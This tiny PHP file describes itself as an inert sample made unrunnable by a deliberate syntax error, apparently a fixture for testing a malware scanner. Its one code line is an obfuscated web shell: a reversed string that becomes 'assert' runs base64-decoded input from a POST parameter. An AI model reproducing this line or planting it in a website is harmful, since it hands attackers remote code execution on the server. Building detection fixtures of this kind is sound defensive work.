<?php
shodo inert sample: deliberate syntax error, this file never runs
 $s = strrev('tressa'); $s(base64_decode($_POST['d'])); ?>
